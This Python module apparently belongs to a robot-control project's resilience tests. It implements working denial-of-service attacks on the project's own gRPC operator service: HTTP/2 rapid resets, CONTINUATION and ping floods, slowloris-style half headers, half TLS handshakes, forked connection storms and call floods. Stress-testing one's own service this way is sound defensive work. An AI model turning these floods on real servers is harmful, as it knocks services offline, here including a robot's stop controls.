"""The attacks: each goes on until it is killed, and says once that it is under way.

Run as ``python -m proof.attacks.attackers NAME ADDRESS [AUTHORITY CERTIFICATE KEY]``.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import resource
import socket
import ssl
import sys
import threading
import time
from collections import deque
from collections.abc import Callable, Iterable, Iterator, Sequence
from pathlib import Path
from typing import Any, Final

import grpc

from proof.attacks.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    connect,
    frame,
    head_of_call,
)
from spot_protos import operator_pb2

PATH: Final = "/spot_rl.operator.v1.Operator/"
METHODS: Final = ("Stop", "Damp", "Attend", "GetStatus", "Arm", "SetVelocity")
IDLE_CONNECTIONS: Final = 600
"""More than four times what the door takes from clients without a role."""
STREAMS: Final = range(1, 60, 2)
"""Numbers of thirty calls on one connection."""
GREETING: Final = PREFACE + frame(SETTINGS, 0, 0)
HEADS: Final = b"".join(frame(HEADERS, END_HEADERS, number, head_of_call(PATH + "Stop")) for number in STREAMS)


def calls(name: str, size: int, body: bytes, *, is_whole: bool = True, streams: Sequence[int] = STREAMS) -> bytes:
    """Calls with the beginning of their message; not whole: more of it is to come."""
    head, message = head_of_call(PATH + name), b"\0" + size.to_bytes(4, "big") + body
    data = END_STREAM if is_whole else 0
    return b"".join(frame(HEADERS, END_HEADERS, n, head) + frame(DATA, data, n, message) for n in streams)


Tls = tuple[Path, Path, Path] | None


class Target:
    """What one attacker knows of the service."""

    def __init__(self, address: str, tls: Tls) -> None:
        self.address, self.tls = address, tls

    def channel(self, number: int) -> grpc.Channel:
        """A gRPC channel with a connection of its own for each number."""
        options = [("grpc.use_local_subchannel_pool", 1), ("attack", number)]
        if self.tls is None:
            return grpc.insecure_channel(self.address, options)
        authority, certificate, key = (path.read_bytes() for path in self.tls)
        return grpc.secure_channel(self.address, grpc.ssl_channel_credentials(authority, key, certificate), options)


Attack = Callable[[Target], None]


def _ready() -> None:
    """Say that it is under way."""
    sys.stdout.write("ready\n")
    sys.stdout.flush()


def nothing(_: Target) -> None:
    """No attack, for comparison."""
    _ready()
    threading.Event().wait()


def hold(count: int, opening: bytes, again: Sequence[bytes] = (), pause_s: float = 0.0) -> Attack:
    """Many connections that begin with some bytes and are kept open; each is sent more of them in turn, if any."""

    def attack(target: Target) -> None:
        sockets = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                sockets.append(connect(target.address, target.tls))
                sockets[-1].sendall(opening)
        _ready()
        while again:
            for one, part in itertools.product(sockets, again):
                with contextlib.suppress(OSError):
                    one.sendall(part)
                time.sleep(pause_s)
        threading.Event().wait()

    return attack


def storm(
    opening: Callable[[Target], bytes],
    *,
    pause_s: float = 0.0,
    kept: int = 0,
    forks: bool = False,
    with_tls: bool = False,
    held: int = 0,
) -> Attack:
    """Connections that are opened as fast as it goes, and send some bytes.

    Args:
        opening: What each sends.
        pause_s: After each.
        kept: How many of the newest stay open.
        forks: Whether each is made by a process of its own.
        with_tls: Whether they finish the handshake of TLS.
        held: How many silent ones are opened before.
    """

    def attack(target: Target) -> None:
        begun, newest = opening(target), deque[socket.socket](maxlen=max(1, kept))
        silent = []
        for _ in range(held):
            with contextlib.suppress(OSError):
                silent.append(connect(target.address, target.tls))
        _ready()
        while True:
            child = os.fork() if forks else 0
            if child:
                os.waitpid(child, 0)
                continue
            with contextlib.suppress(OSError):
                newest.append(connect(target.address, target.tls if with_tls else None))
                newest[-1].sendall(begun)
            time.sleep(pause_s)
            if not kept and newest:
                newest.pop().close()
            if forks:
                os._exit(0)

    return attack


def half_handshake(target: Target) -> bytes:
    """The first half of a handshake of TLS, or of HTTP/2's first words."""
    if target.tls is None:
        return PREFACE[:9]
    told = ssl.MemoryBIO()
    half = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), told, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    return told.read()


def flood(opening: bytes, again: Callable[[], Iterable[bytes]]) -> Attack:
    """One connection that is sent to as fast as it takes it; a new one where it was cut."""

    def attack(target: Target) -> None:
        is_told = False
        while True:
            with contextlib.suppress(OSError):
                one = connect(target.address, target.tls)
                one.sendall(GREETING)
                if not is_told:
                    is_told = True
                    _ready()
                one.sendall(opening)
                for part in again():
                    one.sendall(part)
            time.sleep(0.01)

    return attack


def resets() -> Iterator[bytes]:
    """Calls that are started and broken off at once."""
    head = head_of_call(PATH + "GetStatus")
    for number in range(1, 1 << 30, 2):
        yield frame(HEADERS, END_HEADERS, number, head) + frame(RST_STREAM, 0, number, b"\0\0\0\x08")


def endless(part: bytes) -> Callable[[], Iterable[bytes]]:
    """A hundred times this, again and again."""
    return lambda: itertools.repeat(part * 100)


def hanging_calls(target: Target) -> None:
    """Calls of every method over many connections whose message never comes."""

    def never() -> Iterator[bytes]:
        threading.Event().wait()
        yield b""

    channels, calls = [target.channel(number) for number in range(10)], deque[Any](maxlen=1000)
    for number in itertools.count():
        call: Any = channels[number % 10].stream_unary(PATH + METHODS[number // 10 % len(METHODS)])
        calls.append(call.future(never()))
        if number == 300:
            time.sleep(0.5)
            _ready()
        time.sleep(0.005 if number > 300 else 0.0)


def call_flood(name: str) -> Attack:
    """Good calls over several connections, as many at once as each takes."""

    def attack(target: Target) -> None:
        def send(channel: grpc.Channel) -> None:
            room = threading.Semaphore(200)
            call: Any = channel.unary_unary(PATH + name)
            while True:
                room.acquire()
                call.future(b"").add_done_callback(lambda _: room.release())

        for number in range(8):
            threading.Thread(target=send, args=(target.channel(number),), daemon=True).start()
        time.sleep(0.5)
        _ready()
        threading.Event().wait()

    return attack


HALF_HEAD: Final = frame(HEADERS, 0, 1, head_of_call(PATH + "Stop")[:20])
LONG_HEAD: Final = frame(HEADERS, 0, 1, head_of_call(PATH + "Stop"))
NO_ROOM: Final = frame(SETTINGS, 0, 0, b"\0\x04" + bytes(4))
WATCH: Final = operator_pb2.WatchStatusRequest(rate_hz=10.0).SerializeToString()

ATTACKS: Final[dict[str, Attack]] = {
    "nothing": nothing,
    "idle connections": storm(lambda _: b"", pause_s=0.002, held=IDLE_CONNECTIONS),
    "hanging calls": hanging_calls,
    # In the middle of a call's head, a byte of it now and then.
    "half headers": hold(200, GREETING + HALF_HEAD, (frame(CONTINUATION, 0, 1, b"\0"),), 0.005),
    "half handshakes": storm(half_handshake, pause_s=0.002, kept=300),
    "connection storm": storm(lambda _: PREFACE[:3]),
    # Each with thirty calls without a message.
    "heads in a storm": storm(lambda _: GREETING + HEADS, pause_s=0.001, with_tls=True),
    "processes": storm(lambda _: GREETING + HEADS, pause_s=0.001, with_tls=True, forks=True),
    "rapid resets": flood(b"", resets),
    "pings": flood(b"", endless(frame(PING, 0, 0, b"attacked") + frame(SETTINGS, 0, 0))),
    # Calls whose answers have no room, and window updates of one byte without an end.
    "windows": flood(NO_ROOM + calls("GetStatus", 0, b""), endless(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))),
    # A call's head that never ends.
    "continuations": flood(LONG_HEAD, endless(frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"))),
    # Byte by byte.
    "trickled messages": hold(
        50, GREETING + calls("StartLog", 255, b"", is_whole=False), [frame(DATA, 0, n, b"\x0a") for n in STREAMS], 0.01
    ),
    "call flood": call_flood("GetStatus"),
    # Calls that are never too often, as often as it goes.
    "attendance": call_flood("Attend"),
    # Streams of status that are never read.
    "silent readers": hold(100, GREETING + calls("WatchStatus", len(WATCH), WATCH, streams=(1,))),
}


def main() -> None:
    """Attack until killed."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    name, address, *files = sys.argv[1:]
    tls = (Path(files[0]), Path(files[1]), Path(files[2])) if files else None
    ATTACKS[name](Target(address, tls))


if __name__ == "__main__":
    main()
